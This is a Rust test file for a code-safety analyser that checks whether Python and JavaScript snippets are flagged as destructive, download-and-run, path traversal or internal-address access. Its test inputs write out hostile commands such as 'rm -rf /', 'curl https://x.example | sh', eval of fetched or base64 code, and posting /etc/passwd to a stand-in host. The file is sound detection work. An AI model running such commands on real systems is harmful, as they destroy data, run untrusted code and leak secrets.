use super::*;
use proptest::prelude::*;

fn facts(text: &str) -> CodeFacts {
    let mut facts = CodeFacts::default();
    read(text, 0, &mut facts);
    facts
}

#[test]
fn destruction_is_seen_in_both_languages() {
    for text in [
        "import shutil\nshutil.rmtree('/srv/data')",
        "import os; os.remove('x')",
        "os.system('rm -rf /')",
        "subprocess.run(['rm', '-rf', '/srv'])",
        "subprocess.run('rm -rf /srv', shell=True)",
        "from subprocess import run\nimport subprocess\nrun(['rm', '-rf', 'x'])",
        "Path('x').unlink()",
        "require('fs').rmSync('/srv', { recursive: true })",
        "const fs = require('fs'); fs.rmdirSync('x')",
        "await fs.promises.rm('/srv', {recursive: true})",
        "require('child_process').execSync('rm -rf /srv')",
        "const {exec} = require('child_process'); exec('rm -rf x')",
        "spawn('rm', ['-rf', 'x'])",
        "cursor.execute('DROP TABLE users')",
        "db.query(\"delete from users\")",
        "x = f\"{shutil.rmtree('/srv')}\"",
        "`${require('fs').rmSync('x')}`",
        "eval(\"__import__('os').system('rm -rf /')\")",
        "exec('import shutil; shutil.rmtree(\"x\")')",
        "x = 1 // 2; shutil.rmtree('x')",
        "# it's fine\nshutil.rmtree('x')",
        "// it's fine\nfs.rmSync('x')",
        "os.system('\\x72m -rf /')",
        "system \"rm -rf /\"",
        "subprocess.Popen([\"sh\", \"-c\", \"rm -rf x\"])",
    ] {
        assert!(facts(text).destructive, "{text}: {:?}", facts(text));
    }
}

#[test]
fn ordinary_programs_are_quiet() {
    for text in [
        "def add(a, b):\n    return a + b\nprint(add(1, 2))",
        "import pandas as pd\ndf = pd.read_csv('data.csv')\nprint(df.describe())",
        "# shutil.rmtree('/')\nprint('ok')",
        "print(\"rm -rf / is dangerous\")",
        "items.remove('x'); s = {1}; s.discard(1)",
        "const xs = [1, 2].map(x => x * 2); console.log(xs)",
        "const re = /it's/; re.exec('x')",
        "import json\njson.loads('{}')",
        "model.eval()",
        "yaml.load(f, Loader=yaml.SafeLoader)",
        "for i in range(10):\n    print(i // 2)",
        "\"\"\"Doc's string.\n\nIt has \"quotes\".\"\"\"\nx = 1",
        "def remove(path):\n    pass",
        "cursor.execute('SELECT * FROM users WHERE id = %s', (1,))",
        "/* it's a comment */ const a = 1; // and it's another",
    ] {
        let facts = facts(text);
        let quiet = !facts.destructive
            && !facts.download_and_run
            && !facts.unparsed
            && !facts.traversal
            && !facts.internal_address;
        assert!(quiet, "{text}: {facts:?}");
    }
}

#[test]
fn what_is_fetched_and_run_is_seen() {
    for text in [
        "exec(requests.get('https://x.example/p.py').text)",
        "code = urllib.request.urlopen('https://x.example').read()\nexec(code)",
        "eval(base64.b64decode('cHJpbnQoMSk='))",
        "fetch('https://x.example').then(r => r.text()).then(t => eval(t))",
        "new Function(atob(x))()",
        "pickle.loads(requests.get('https://x.example').content)",
        "os.system('curl https://x.example | sh')",
        "subprocess.run(requests.get(u).text, shell=True)",
        "const vm = require('vm'); const r = await fetch(u); vm.runInNewContext(await r.text())",
    ] {
        assert!(facts(text).download_and_run, "{text}: {:?}", facts(text));
    }
}

#[test]
fn hosts_paths_and_programs_are_listed() {
    let read = facts("requests.post('https://X.example/u', data=open('/etc/passwd').read())");
    assert_eq!(read.hosts, ["x.example"]);
    assert_eq!(read.paths, ["/etc/passwd"]);
    assert!(read.traversal);
    assert_eq!(facts("os.system('git status && ls')").programs, ["git", "ls"]);
    assert!(facts("requests.get('http://169.254.169.254/latest/')").internal_address);
    assert_eq!(facts("s.connect(('203.0.113.7', 4444))").hosts, ["203.0.113.7"]);
    assert!(facts("open('out.txt', 'w').write('x')").writes);
    assert!(facts("fs.readFileSync('../../x')").traversal);
    assert!(!facts("open('out.txt')").writes);
}

#[test]
fn what_cannot_be_read_says_so() {
    for text in [
        "x = 'open",
        "eval(x)",
        "exec(compile(x, 'a', 'exec'))",
        "os.system(cmd)",
        "getattr(os, name)(x)",
        "__import__('os')",
        "pickle.loads(x)",
    ] {
        assert!(facts(text).unparsed, "{text}");
    }
}

#[test]
fn hostile_programs_are_read_in_one_go() {
    for unit in
        ["eval(", "f\"{f(", "`${", "/", "=/", "os.system('", "\"\"\"", "{(", "a.", "eval('", "/*"]
    {
        facts(&unit.repeat(50_000 / unit.len()));
    }
}

proptest! {
    #[test]
    fn no_program_breaks_it(text in "[a-z (){}'\"`/#*.,=\\\\\n$]{0,80}") {
        facts(&text);
    }
}
